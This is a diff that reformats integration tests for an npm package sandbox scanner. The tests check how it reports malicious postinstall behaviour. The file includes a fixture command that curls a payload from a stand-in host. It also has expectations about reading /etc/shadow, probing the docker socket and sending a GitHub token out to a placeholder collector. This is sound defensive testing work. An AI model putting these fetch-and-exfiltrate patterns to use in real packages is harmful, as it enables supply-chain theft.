@@ -37,7 +37,11 @@ describe('sandbox run against the real Docker engine', () => {
     expect(report.processes.length).toBeGreaterThan(0);
     expect(new Set(report.processes.map((p) => basename(p.path)))).toEqual(new Set(['npm', 'node']));
     expect(report.processes.every((p) => p.attribution?.event !== 'postinstall')).toBe(true);
-    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/projects/app/node_modules/airlock-fixture-benign/index.js', kind: 'added', normalizedPath: '<PKG>/index.js' });
+    expect(report.fsDiff).toContainEqual({
+      path: '/home/jordan/projects/app/node_modules/airlock-fixture-benign/index.js',
+      kind: 'added',
+      normalizedPath: '<PKG>/index.js',
+    });
     expect(report.trace.install!.events).toBeGreaterThan(100);
     expect(report.sandbox).toMatchObject({ capDrop: ['ALL'], pidsLimit: 256, readonlyRootfs: false });
     expect(report.sandbox.networkMode).toMatch(/^namespace of the fake internet/);
@@ -53,12 +57,18 @@ describe('sandbox run against the real Docker engine', () => {
     expect(shell!.argv).toEqual(['sh', '-c', 'echo airlock-marker > "$HOME/.airlock-fixture-marker"; id']);
     expect(shell!.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
     expect(report.processes.some((p) => p.path === '/usr/bin/id' && p.ppid !== null)).toBe(true);
-    expect(report.fileWrites).toContainEqual(expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', operation: 'create', result: 'ok' }));
-    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/.airlock-fixture-marker', kind: 'added', normalizedPath: '<HOME>/.airlock-fixture-marker' });
+    expect(report.fileWrites).toContainEqual(
+      expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', operation: 'create', result: 'ok' }),
+    );
+    expect(report.fsDiff).toContainEqual({
+      path: '/home/jordan/.airlock-fixture-marker',
+      kind: 'added',
+      normalizedPath: '<HOME>/.airlock-fixture-marker',
+    });
     expect(report.staticSignals.map((s) => s.id)).toContain('install-script.present');
   });
 
-  it('reports the process tree npm -> sh -> sh -> curl of a postinstall, attributed to it, with curl\'s request', async () => {
+  it("reports the process tree npm -> sh -> sh -> curl of a postinstall, attributed to it, with curl's request", async () => {
     const script = "sh -c 'curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh; echo fetched'";
     const report = await analyzeLocalPackage(fixture('tree-sh-curl'), { docker, artifactsRoot });
     expect(phase(report, 'install')).toMatchObject({ status: 'completed', exitCode: 0 });
@@ -91,13 +101,20 @@ describe('sandbox run against the real Docker engine', () => {
     expect(tree.nodes.flatMap((n) => n.execs).some((e) => e.path.startsWith('/opt/airlock/'))).toBe(false);
     // The fake internet answered curl: the GET arrived with its hostname.
     expect(report.network.tcp).toContainEqual(
-      expect.objectContaining({ destination: expect.objectContaining({ hostname: 'stage2.tree-fixture.example', port: 80 }), http: expect.objectContaining({ method: 'GET', target: '/payload.sh' }) }),
+      expect.objectContaining({
+        destination: expect.objectContaining({ hostname: 'stage2.tree-fixture.example', port: 80 }),
+        http: expect.objectContaining({ method: 'GET', target: '/payload.sh' }),
+      }),
     );
     expect(phase(report, 'install').stdout.text).toContain('fetched');
     // npm reads ~/.npmrc itself (unattributed); curl's lookups read /etc/passwd under the postinstall.
-    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'npmrc', phase: 'install', normalizedPath: '<HOME>/.npmrc', attribution: null }));
+    expect(report.sensitiveFiles).toContainEqual(
+      expect.objectContaining({ rule: 'npmrc', phase: 'install', normalizedPath: '<HOME>/.npmrc', attribution: null }),
+    );
     const text = renderReportText(report);
-    expect(text).toContain(`└─ curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh  [pid ${curl.pid}, exit 0]  <- airlock-fixture-tree-sh-curl postinstall`);
+    expect(text).toContain(
+      `└─ curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh  [pid ${curl.pid}, exit 0]  <- airlock-fixture-tree-sh-curl postinstall`,
+    );
   });
 
   it('ends an endless postinstall at its time limit and removes the container', async () => {
@@ -145,12 +162,18 @@ describe('sandbox run against the real Docker engine', () => {
     expect(install.stdout.text).toMatch(/no new privileges/);
     expect(report.denied).toContainEqual(expect.objectContaining({ target: '/etc/shadow', result: 'EACCES' }));
     expect(report.denied.some((d) => d.syscall === 'setuid' && d.result === 'EPERM')).toBe(true);
-    expect(report.connections).toContainEqual(expect.objectContaining({ family: 'AF_UNIX', address: '/var/run/docker.sock', result: 'ENOENT' }));
+    expect(report.connections).toContainEqual(
+      expect.objectContaining({ family: 'AF_UNIX', address: '/var/run/docker.sock', result: 'ENOENT' }),
+    );
     expect(report.processes.some((p) => basename(p.path) === 'sudo')).toBe(true);
     // The same attempts in the sensitive-file section, attributed to the package's postinstall.
     const escalate = { packageName: 'airlock-fixture-escalate', event: 'postinstall', script: 'node escalate.js' };
-    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'system-accounts', path: '/etc/shadow', access: 'read', result: 'EACCES', attribution: escalate }));
-    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'docker-socket', access: 'connect', result: 'ENOENT', attribution: escalate }));
+    expect(report.sensitiveFiles).toContainEqual(
+      expect.objectContaining({ rule: 'system-accounts', path: '/etc/shadow', access: 'read', result: 'EACCES', attribution: escalate }),
+    );
+    expect(report.sensitiveFiles).toContainEqual(
+      expect.objectContaining({ rule: 'docker-socket', access: 'connect', result: 'ENOENT', attribution: escalate }),
+    );
   });
 
   it('removes the container when the analysis is aborted (Ctrl-C)', async () => {
@@ -174,7 +197,14 @@ describe('sandbox run against the real Docker engine', () => {
   it('airlock scan --json prints a full report', async () => {
     const { stdout } = await promisify(execFile)(
       'node',
-      [resolve(__dirname, '../../apps/cli/dist/main.js'), 'scan', fixture('postinstall-shell-write'), '--json', '--artifacts', artifactsRoot],
+      [
+        resolve(__dirname, '../../apps/cli/dist/main.js'),
+        'scan',
+        fixture('postinstall-shell-write'),
+        '--json',
+        '--artifacts',
+        artifactsRoot,
+      ],
       { maxBuffer: 64 * 1024 * 1024 },
     );
     const report = JSON.parse(stdout) as SandboxReport;
@@ -185,7 +215,9 @@ describe('sandbox run against the real Docker engine', () => {
     expect(report.processes.some((p) => p.attribution?.event === 'postinstall')).toBe(true);
     const shell = report.processTree.install!.nodes.find((n) => n.execs.at(-1)?.argv[2]?.startsWith('echo airlock-marker'))!;
     expect(shell.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
-    expect(report.fileWrites).toContainEqual(expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', normalizedPath: '<HOME>/.airlock-fixture-marker' }));
+    expect(report.fileWrites).toContainEqual(
+      expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', normalizedPath: '<HOME>/.airlock-fixture-marker' }),
+    );
     // A postinstall shell alone is suspicious, not malicious: the exit code stays 0 under --fail-on malicious.
     expect(report.verdict?.verdict).toBe('suspicious');
     expect(report.verdict?.reasons.map((r) => r.rule)).toContain('lifecycle-shell');
@@ -199,7 +231,9 @@ describe('the CI profile', () => {
     expect(r.sandbox.profile).toMatchObject({ name: 'ci', reason: expect.stringContaining('GITHUB_ACTIONS') });
     expect(r.sandbox.profile.env).toEqual(expect.arrayContaining(['CI', 'GITHUB_ACTIONS', 'GITHUB_REPOSITORY']));
     expect(r.verdict?.verdict).toBe('malicious');
-    expect(r.honeytokens.exfiltrated).toContainEqual(expect.objectContaining({ kind: 'github-token', channel: 'http', destination: expect.stringContaining('ci-collector.example') }));
+    expect(r.honeytokens.exfiltrated).toContainEqual(
+      expect.objectContaining({ kind: 'github-token', channel: 'http', destination: expect.stringContaining('ci-collector.example') }),
+    );
     expect(renderReportText(r)).toMatch(/profile: CI job .*because the package's code reads .*GITHUB_ACTIONS/);
   });
 
@@ -214,14 +248,26 @@ describe('airlock scan --previous', () => {
     const cli = resolve(__dirname, '../../apps/cli/dist/main.js');
     const dir = mkdtempSync(join(tmpdir(), 'airlock-prev-'));
     // The previous version did nothing at all: every destination of this one is new.
-    const previous = { package: { ecosystem: 'npm', name: 'airlock-fixture-net-https-post', version: '0.9.0' }, processes: [], sensitiveFiles: [], network: { dns: [], tcp: [], udp: [] } };
+    const previous = {
+      package: { ecosystem: 'npm', name: 'airlock-fixture-net-https-post', version: '0.9.0' },
+      processes: [],
+      sensitiveFiles: [],
+      network: { dns: [], tcp: [], udp: [] },
+    };
     writeFileSync(join(dir, 'prev.json'), JSON.stringify(previous));
-    const { stdout } = await promisify(execFile)('node', [cli, 'scan', fixture('net-https-post'), '--json', '--previous', join(dir, 'prev.json'), '--artifacts', artifactsRoot], { maxBuffer: 64 * 1024 * 1024 }).catch((err: { stdout: string }) => err);
+    const { stdout } = await promisify(execFile)(
+      'node',
+      [cli, 'scan', fixture('net-https-post'), '--json', '--previous', join(dir, 'prev.json'), '--artifacts', artifactsRoot],
+      { maxBuffer: 64 * 1024 * 1024 },
+    ).catch((err: { stdout: string }) => err);
     const report = JSON.parse(stdout) as SandboxReport;
     const drift = report.verdict!.reasons.find((r) => r.rule === 'update.new-destinations')!;
     expect(drift.explanation).toMatch(/than airlock-fixture-net-https-post@0\.9\.0.*telemetry\.exfil-fixture\.example/);
     writeFileSync(join(dir, 'bad.json'), '{"hello": 1}');
-    const code = await promisify(execFile)('node', [cli, 'scan', fixture('net-https-post'), '--previous', join(dir, 'bad.json')]).then(() => 0, (err: { code: number }) => err.code);
+    const code = await promisify(execFile)('node', [cli, 'scan', fixture('net-https-post'), '--previous', join(dir, 'bad.json')]).then(
+      () => 0,
+      (err: { code: number }) => err.code,
+    );
     expect(code).toBe(2);
   });
 });
@@ -230,7 +276,10 @@ describe('airlock scan exit codes', () => {
   it('exits 1 with --fail-on suspicious for a suspicious package, and 2 for a path that does not exist', async () => {
     const cli = resolve(__dirname, '../../apps/cli/dist/main.js');
     const run = (args: string[]) =>
-      promisify(execFile)('node', [cli, 'scan', ...args, '--artifacts', artifactsRoot]).then(() => 0, (err: { code: number }) => err.code);
+      promisify(execFile)('node', [cli, 'scan', ...args, '--artifacts', artifactsRoot]).then(
+        () => 0,
+        (err: { code: number }) => err.code,
+      );
     expect(await run([fixture('postinstall-shell-write'), '--fail-on', 'suspicious'])).toBe(1);
     expect(await run(['/nonexistent/airlock-package'])).toBe(2);
   });
@@ -241,7 +290,12 @@ describe('orphaned sandboxes', () => {
     const { reapOrphans } = await import('@airlock/sandbox');
     const { hostname } = await import('node:os');
     const make = (owner: string) =>
-      docker.createContainer({ Image: 'airlock/sandbox-npm:latest', Cmd: ['true'], Labels: { [SANDBOX_LABEL]: '1', 'airlock.owner': owner, 'airlock.analysis': 'reap-test' }, HostConfig: { NetworkMode: 'none' } });
+      docker.createContainer({
+        Image: 'airlock/sandbox-npm:latest',
+        Cmd: ['true'],
+        Labels: { [SANDBOX_LABEL]: '1', 'airlock.owner': owner, 'airlock.analysis': 'reap-test' },
+        HostConfig: { NetworkMode: 'none' },
+      });
     const dead = await make(`${hostname()}:999999`);
     const alive = await make(`${hostname()}:${process.pid}`);
     try {
